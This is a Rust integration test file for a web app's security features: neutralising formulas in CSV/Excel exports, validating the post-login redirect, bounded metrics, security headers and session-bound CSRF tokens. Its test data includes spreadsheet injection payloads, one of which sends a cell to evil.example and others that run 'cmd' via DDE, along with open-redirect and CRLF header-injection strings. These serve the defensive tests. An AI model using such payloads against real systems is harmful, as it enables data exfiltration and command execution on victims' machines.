//! The web side of security: exported files that cannot run formulas, the return address after
//! login, bounded metrics, security headers, CSRF tokens bound to the session, and problem+json
//! for every API body error.

use reqwest::{Client, StatusCode};
use scraper::Html;
use serde_json::json;

use crate::fixtures::{create_tour, feedback_token, registration_body, stop_body};
use crate::helpers::{TestApp, json_with, problem, spawn_app, spawn_app_with};
use crate::pages::{browser, csrf_of, logged_in, page, select};

// ---- CSV and Excel exports -------------------------------------------------------------------

const HOSTILE_NAME: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
const HOSTILE_COMPANY: &str = "+33 6 12 34 56 78";
const HOSTILE_LAST_NAME: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
const HOSTILE_CITY: &str = "-2+3+cmd|' /C calc'!A0";
const HOSTILE_COMMENT: &str = "-1+1 formateurs pas au niveau";

/// A text cell whose first character a spreadsheet would run (leading spaces ignored); numbers
/// (`-100,00`, `-3`) are numbers.
fn runs_as_formula(cell: &str) -> bool {
    let number = cell.replace(',', ".").parse::<f64>().is_ok();
    !number
        && cell
            .trim_start_matches([' ', '\n'])
            .starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// The cells of a CSV export, without the byte-order mark.
fn cells(body: &str, delimiter: u8) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(delimiter)
        .has_headers(false)
        .flexible(true)
        .from_reader(body.trim_start_matches('\u{feff}').as_bytes());
    reader
        .records()
        .map(|r| r.expect("a CSV record").iter().map(str::to_owned).collect())
        .collect()
}

/// A tour whose stop has a hostile city, an attendee with a hostile name and company (a walk-in,
/// so checked in) and a hostile feedback comment that opened a complaint. Returns (tour, stop).
async fn hostile_tour(app: &TestApp) -> (String, String) {
    let admin = app.token_for("admin").await;
    let staff = app.token_for("staff").await;
    let marketing = app.token_for("marketing").await;
    let tour = create_tour(app, &admin, "Tour CSV").await;
    let tour_id = tour["id"].as_str().expect("id").to_owned();
    let stop = json_with(
        app.post_json(
            &format!("/api/v1/tours/{tour_id}/stops"),
            &stop_body(HOSTILE_CITY, json!({})),
            Some(&admin),
        )
        .await,
        StatusCode::CREATED,
    )
    .await;
    let stop_id = stop["id"].as_str().expect("id").to_owned();
    let mut body = registration_body("Eve", &[]);
    body["first_name"] = json!(HOSTILE_NAME);
    body["last_name"] = json!(HOSTILE_LAST_NAME);
    body["company"] = json!(HOSTILE_COMPANY);
    body["email"] = json!("eve@evil.example");
    json_with(
        app.post_json(
            &format!("/api/v1/stops/{stop_id}/walk-ins"),
            &body,
            Some(&staff),
        )
        .await,
        StatusCode::CREATED,
    )
    .await;
    json_with(
        app.post_json(
            &format!("/api/v1/stops/{stop_id}/feedback-requests"),
            &json!({}),
            Some(&marketing),
        )
        .await,
        StatusCode::ACCEPTED,
    )
    .await;
    let token = feedback_token(app, "eve@evil.example").await;
    json_with(
        app.post_json(
            &format!("/api/v1/feedback/{token}"),
            &json!({"overall": 1, "trainers": 1, "content": 1, "nps": 0,
                    "themes": ["trainers"], "comment": HOSTILE_COMMENT}),
            None,
        )
        .await,
        StatusCode::CREATED,
    )
    .await;
    (tour_id, stop_id)
}

async fn download(client: &Client, app: &TestApp, path: &str) -> String {
    let response = client.get(app.url(path)).send().await.expect("sent");
    assert_eq!(response.status(), StatusCode::OK, "{path}");
    response.text().await.expect("text")
}

#[tokio::test]
async fn csv_exports_neutralise_formulas_in_both_languages_and_xlsx_keeps_strings() {
    let app = spawn_app().await;
    let (tour, stop) = hostile_tour(&app).await;
    let client = logged_in(&app, "analyst@roadshow.example", "marketing", "fr").await;
    let exports = [
        format!("/analytics/stops/{stop}/export/attendees.csv"),
        format!("/analytics/tours/{tour}/export/overview.csv"),
        format!("/analytics/tours/{tour}/export/feedback.csv"),
        format!("/analytics/tours/{tour}/export/complaints.csv"),
    ];
    for (lang, delimiter) in [("fr", b';'), ("en", b',')] {
        let mut seen = Vec::new();
        for path in &exports {
            let body = download(&client, &app, &format!("{path}?lang={lang}")).await;
            assert_eq!(
                body.starts_with('\u{feff}'),
                lang == "fr",
                "{path} {lang}: BOM"
            );
            for row in cells(&body, delimiter) {
                for cell in row {
                    assert!(!runs_as_formula(&cell), "{path} {lang}: {cell:?}");
                    seen.push(cell);
                }
            }
        }
        // Each hostile value is there, as typed behind a single quote.
        for hostile in [
            HOSTILE_NAME,
            HOSTILE_LAST_NAME,
            HOSTILE_COMPANY,
            HOSTILE_CITY,
            HOSTILE_COMMENT,
        ] {
            let quoted = format!("'{hostile}");
            assert!(seen.contains(&quoted), "{lang}: {quoted:?} in {seen:?}");
        }
    }
    // Numbers written as numbers stay numbers: the overview's counts and the feedback ratings.
    let overview = download(
        &client,
        &app,
        &format!("/analytics/tours/{tour}/export/overview.csv?lang=fr"),
    )
    .await;
    let rows = cells(&overview, b';');
    let city_row = rows
        .iter()
        .find(|r| r.iter().any(|c| c == &format!("'{HOSTILE_CITY}")))
        .expect("the stop's row");
    assert!(
        city_row.iter().any(|c| c == "1"),
        "a count of 1 registration: {city_row:?}"
    );

    // Excel: the hostile text is a string cell, never a formula.
    let response = client
        .get(app.url(&format!("/analytics/stops/{stop}/export/attendees.xlsx")))
        .send()
        .await
        .expect("sent");
    assert_eq!(response.status(), StatusCode::OK);
    let bytes = response.bytes().await.expect("bytes");
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes.to_vec())).expect("a zip");
    let mut read = |name: &str| {
        let mut out = String::new();
        std::io::Read::read_to_string(&mut zip.by_name(name).expect(name), &mut out)
            .expect("utf-8");
        out
    };
    let sheet = read("xl/worksheets/sheet1.xml");
    assert!(!sheet.contains("<f>"), "no formula in the sheet: {sheet}");
    let strings = read("xl/sharedStrings.xml");
    assert!(strings.contains("=HYPERLINK("), "{strings}");
    assert!(strings.contains(HOSTILE_COMPANY), "{strings}");
}

// ---- the return address after login ------------------------------------------------------------

async fn login_with_next(app: &TestApp, next: Option<&str>) -> reqwest::Response {
    let client = browser("en");
    let (_, doc) = page(&client, app, "/login").await;
    let csrf = csrf_of(&doc);
    let mut form = vec![
        ("csrf_token", csrf.as_str()),
        ("email", "next@roadshow.example"),
        ("password", "correct horse battery"),
    ];
    if let Some(next) = next {
        form.push(("next", next));
    }
    client
        .post(app.url("/login"))
        .form(&form)
        .send()
        .await
        .expect("sent")
}

#[tokio::test]
async fn after_login_only_local_paths_are_followed() {
    let app = spawn_app().await;
    app.create_user("next@roadshow.example", "admin", "correct horse battery");
    let cases: &[(Option<&str>, &str)] = &[
        (None, "/admin"),
        (Some("/admin/tours/new"), "/admin/tours/new"),
        (Some("/analytics?lang=en"), "/analytics?lang=en"),
        (Some("//evil.example"), "/"),
        (Some("/\t/evil.example"), "/"),
        (Some("/%09/evil.example"), "/"),
        (Some("/\\evil.example"), "/"),
        (Some("\\\\evil.example"), "/"),
        (Some("https://evil.example/"), "/"),
        (Some("javascript:alert(1)"), "/"),
        (Some("/\r\nSet-Cookie: stolen=1"), "/"),
        (Some("/\n/evil.example"), "/"),
        (Some("/%0d%0aSet-Cookie:x=1"), "/"),
        (Some(" /admin"), "/"),
    ];
    for (next, expected) in cases {
        let response = login_with_next(&app, *next).await;
        assert_eq!(response.status(), StatusCode::SEE_OTHER, "{next:?}");
        let location = response.headers()[reqwest::header::LOCATION]
            .to_str()
            .expect("ascii");
        assert_eq!(location, *expected, "{next:?}");
        assert!(
            !response
                .headers()
                .get_all(reqwest::header::SET_COOKIE)
                .iter()
                .any(|c| c.to_str().unwrap_or_default().starts_with("stolen")),
            "{next:?}"
        );
    }
    // The login page itself: a hostile `next` is never carried, and never a 500.
    let client = browser("en");
    for query in [
        "next=%2F%09%2Fevil.example",
        "next=%2F%0D%0ASet-Cookie%3A%20x%3D1",
        "next=%0A",
        "next=https%3A%2F%2Fevil.example",
    ] {
        let (status, doc) = page(&client, &app, &format!("/login?{query}")).await;
        assert_eq!(status, StatusCode::OK, "{query}");
        let next = select(&doc, "input[name=next]")
            .first()
            .and_then(|e| e.value().attr("value"))
            .map(str::to_owned);
        assert_eq!(next.as_deref(), Some("/"), "{query}");
    }
}

// ---- metrics -------------------------------------------------------------------------------------

async fn metrics_lines(app: &TestApp) -> usize {
    let body = app.get("/metrics", None).await.text().await.expect("text");
    body.lines().count()
}

async fn made_up_requests(app: &TestApp, round: usize, count: usize) {
    for i in 0..count {
        let method =
            reqwest::Method::from_bytes(format!("M{round}X{i}").as_bytes()).expect("a token");
        let paths = [
            format!("/no/such/page/{round}/{i}"),
            format!("/api/v1/nothing-{round}-{i}"),
            format!("/stops/{round}-{i}"),
        ];
        let path = &paths[i % paths.len()];
        let _ = app
            .api
            .request(method, app.url(path))
            .send()
            .await
            .expect("sent");
        let _ = app.get(path, None).await;
    }
}

#[tokio::test]
async fn metrics_stay_bounded_whatever_methods_and_paths_clients_make_up() {
    let app = spawn_app().await;
    made_up_requests(&app, 0, 12).await;
    // Twice: the first scrape adds its own series.
    metrics_lines(&app).await;
    let before = metrics_lines(&app).await;
    made_up_requests(&app, 1, 200).await;
    let after = metrics_lines(&app).await;
    assert_eq!(before, after, "200 made-up requests added series");
    let body = app.get("/metrics", None).await.text().await.expect("text");
    assert!(body.contains("method=\"other\""), "{body}");
    assert!(body.contains("route=\"unmatched\""), "{body}");
    assert!(body.contains("route=\"/stops/{stop_id}\""), "{body}");
    assert!(!body.contains("M1X"), "a made-up method is a label: {body}");
    assert!(!body.contains("nothing-1"), "a made-up path is a label");
}

// ---- security headers ---------------------------------------------------------------------------

const CSP: &str = "default-src 'self'; script-src 'self'; style-src 'self'; \
img-src 'self' data: blob:; media-src 'self' blob:; worker-src 'self' blob:; \
connect-src 'self'; font-src 'self'; manifest-src 'self'; object-src 'none'; \
base-uri 'none'; form-action 'self'; frame-ancestors 'none'";

fn header<'a>(response: &'a reqwest::Response, name: &str) -> &'a str {
    response
        .headers()
        .get(name)
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default()
}

#[tokio::test]
async fn pages_api_answers_and_static_files_carry_the_security_headers() {
    let app = spawn_app().await;
    let (stop_id, _) = crate::fixtures::open_stop(&app, 10, &[]).await;
    let registered = json_with(
        app.post_json(
            &format!("/api/v1/stops/{stop_id}/registrations"),
            &registration_body("Claire", &[]),
            None,
        )
        .await,
        StatusCode::CREATED,
    )
    .await;
    let manage = registered["manage_url"]
        .as_str()
        .and_then(|u| u.rsplit('/').next())
        .expect("manage token")
        .to_owned();
    let badge = registered["badge"]["token"].as_str().expect("badge");

    let private = [
        format!("/stops/{stop_id}/register"),
        format!("/manage/{manage}"),
        format!("/manage/{manage}/badge"),
        "/login".to_owned(),
        format!("/api/v1/manage/{manage}"),
        format!("/api/v1/badges/{badge}/qr.svg"),
        "/api/v1/nothing-here".to_owned(),
    ];
    for path in &private {
        let response = app.get(path, None).await;
        assert!(
            response.status() == StatusCode::OK || path.ends_with("nothing-here"),
            "{path}: {}",
            response.status()
        );
        assert_eq!(header(&response, "content-security-policy"), CSP, "{path}");
        assert_eq!(header(&response, "x-frame-options"), "DENY", "{path}");
        assert_eq!(
            header(&response, "x-content-type-options"),
            "nosniff",
            "{path}"
        );
        assert_eq!(
            header(&response, "referrer-policy"),
            "same-origin",
            "{path}"
        );
        assert_eq!(header(&response, "cache-control"), "no-store", "{path}");
        assert_eq!(
            header(&response, "strict-transport-security"),
            "",
            "{path}: http"
        );
    }
    // Signed-in pages and the exports too.
    let client = logged_in(&app, "m@roadshow.example", "marketing", "en").await;
    for path in [
        format!("/analytics/stops/{stop_id}"),
        format!("/analytics/stops/{stop_id}/export/attendees.csv"),
    ] {
        let response = client.get(app.url(&path)).send().await.expect("sent");
        assert_eq!(response.status(), StatusCode::OK, "{path}");
        assert_eq!(header(&response, "cache-control"), "no-store", "{path}");
        assert_eq!(header(&response, "content-security-policy"), CSP, "{path}");
    }
    // Static files keep their caching, and the policy.
    let css = app.get("/static/app.css", None).await;
    assert_eq!(css.status(), StatusCode::OK);
    assert_eq!(header(&css, "cache-control"), "public, max-age=3600");
    assert_eq!(header(&css, "content-security-policy"), CSP);
    assert_eq!(header(&css, "x-content-type-options"), "nosniff");
    let badge_css = app.get("/static/badge.css", None).await;
    assert_eq!(badge_css.status(), StatusCode::OK);

    // No page has inline script, inline style or event handlers.
    for path in [
        format!("/stops/{stop_id}/register"),
        format!("/manage/{manage}"),
        format!("/manage/{manage}/badge"),
        "/login".to_owned(),
        format!("/analytics/stops/{stop_id}"),
    ] {
        let body = client
            .get(app.url(&path))
            .send()
            .await
            .expect("sent")
            .text()
            .await
            .expect("text");
        let doc = Html::parse_document(&body);
        for script in select(&doc, "script") {
            let kind = script.value().attr("type").unwrap_or("text/javascript");
            assert!(
                script.value().attr("src").is_some() || kind == "application/json",
                "{path}: inline script {}",
                script.html()
            );
        }
        assert!(select(&doc, "style").is_empty(), "{path}: <style>");
        assert!(select(&doc, "[style]").is_empty(), "{path}: style=");
        assert!(
            !body.contains(" onclick=")
                && !body.contains(" onload=")
                && !body.contains(" onsubmit="),
            "{path}: an inline event handler"
        );
    }
}

#[tokio::test]
async fn https_deployments_get_strict_transport_security() {
    let app = spawn_app_with(|s| {
        s.base_url = url::Url::parse("https://roadshow.example/").expect("url");
    })
    .await;
    let response = app.get("/healthz", None).await;
    assert_eq!(
        header(&response, "strict-transport-security"),
        "max-age=31536000"
    );
}

// ---- CSRF tokens bound to the session -----------------------------------------------------------

async fn token_on(client: &Client, app: &TestApp, path: &str) -> String {
    let (status, doc) = page(client, app, path).await;
    assert_eq!(status, StatusCode::OK, "{path}");
    csrf_of(&doc)
}

async fn log_out(client: &Client, app: &TestApp, token: &str) -> StatusCode {
    client
        .post(app.url("/logout"))
        .form(&[("csrf_token", token)])
        .send()
        .await
        .expect("sent")
        .status()
}

#[tokio::test]
async fn csrf_tokens_are_bound_to_the_session_and_rotate_at_login() {
    let app = spawn_app().await;
    app.create_user("b@roadshow.example", "admin", "correct horse battery");
    let a = logged_in(&app, "a@roadshow.example", "admin", "en").await;

    // B before login: an anonymous token; after login, another one.
    let b = browser("en");
    let anonymous = token_on(&b, &app, "/login").await;
    let response = b
        .post(app.url("/login"))
        .form(&[
            ("csrf_token", anonymous.as_str()),
            ("email", "b@roadshow.example"),
            ("password", "correct horse battery"),
        ])
        .send()
        .await
        .expect("sent");
    assert_eq!(response.status(), StatusCode::SEE_OTHER);
    let rotated_cookie = response
        .headers()
        .get_all(reqwest::header::SET_COOKIE)
        .iter()
        .any(|c| c.to_str().unwrap_or_default().starts_with("csrf="));
    assert!(rotated_cookie, "login renews the csrf cookie");
    let b_token = token_on(&b, &app, "/admin").await;
    assert_ne!(b_token, anonymous, "login changes the form token");
    let a_token = token_on(&a, &app, "/admin").await;
    assert_ne!(a_token, b_token);

    // A's token in B's session, and B's own pre-login token, are refused.
    assert_eq!(log_out(&b, &app, &a_token).await, StatusCode::FORBIDDEN);
    assert_eq!(log_out(&b, &app, &anonymous).await, StatusCode::FORBIDDEN);
    assert_eq!(log_out(&b, &app, "").await, StatusCode::FORBIDDEN);
    assert_eq!(log_out(&a, &app, &b_token).await, StatusCode::FORBIDDEN);
    // Each session's own token works.
    assert_eq!(log_out(&b, &app, &b_token).await, StatusCode::SEE_OTHER);
    assert_eq!(log_out(&a, &app, &a_token).await, StatusCode::SEE_OTHER);
}

#[tokio::test]
async fn a_planted_csrf_cookie_cannot_be_paired_with_a_made_up_token() {
    let app = spawn_app().await;
    app.create_user("c@roadshow.example", "admin", "correct horse battery");
    let client = Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .expect("client");
    // The old double submit accepted any cookie of 32+ characters echoed in the form.
    let planted = "A".repeat(43);
    for cookie in [planted.clone(), format!("{planted}.{planted}")] {
        let response = client
            .post(app.url("/login"))
            .header(reqwest::header::COOKIE, format!("csrf={cookie}"))
            .form(&[
                ("csrf_token", cookie.as_str()),
                ("email", "c@roadshow.example"),
                ("password", "correct horse battery"),
            ])
            .send()
            .await
            .expect("sent");
        assert_eq!(response.status(), StatusCode::FORBIDDEN, "{cookie}");
    }
    // The page never shows the cookie itself as the token.
    let response = client.get(app.url("/login")).send().await.expect("sent");
    let cookie = response
        .cookies()
        .find(|c| c.name() == "csrf")
        .map(|c| c.value().to_owned())
        .expect("a csrf cookie");
    let doc = Html::parse_document(&response.text().await.expect("text"));
    assert_ne!(csrf_of(&doc), cookie);
}

// ---- body errors under /api are problem+json ---------------------------------------------------

#[tokio::test]
async fn every_api_body_error_is_problem_json() {
    let app = spawn_app().await;
    let marketing = app.token_for("marketing").await;
    let admin = app.token_for("admin").await;
    let big = "a".repeat(3 * 1024 * 1024);

    // The outcomes import (a raw CSV body) over its own limit.
    let huge = "a".repeat(roadshow::outcomes::api::IMPORT_BODY_LIMIT + 1);
    let response = app
        .post_raw(
            "/api/v1/outcomes/import",
            "text/csv",
            format!("email,stop_id,kind,occurred_on\n{huge}"),
            Some(&marketing),
        )
        .await;
    let body = problem(response, StatusCode::PAYLOAD_TOO_LARGE).await;
    assert_eq!(
        body["type"],
        "https://roadshow.example/problems/payload-too-large"
    );
    // A JSON body over its limit.
    let response = app
        .post_raw(
            "/api/v1/tours",
            "application/json",
            format!("{{\"name\": \"{big}\"}}"),
            Some(&admin),
        )
        .await;
    problem(response, StatusCode::PAYLOAD_TOO_LARGE).await;
    // Bodies that are not what the endpoint reads.
    let response = app
        .post_raw(
            "/api/v1/outcomes/import",
            "text/csv",
            vec![0xff, 0xfe, 0x00],
            Some(&marketing),
        )
        .await;
    problem(response, StatusCode::BAD_REQUEST).await;
    let response = app
        .post_raw("/api/v1/tours", "application/json", "{", Some(&admin))
        .await;
    problem(response, StatusCode::BAD_REQUEST).await;
    // An unknown method on an API path.
    let response = app
        .api
        .request(
            reqwest::Method::from_bytes(b"BREW").expect("token"),
            app.url("/api/v1/tours"),
        )
        .send()
        .await
        .expect("sent");
    assert!(response.status().is_client_error());
    let status = response.status();
    problem(response, status).await;
}
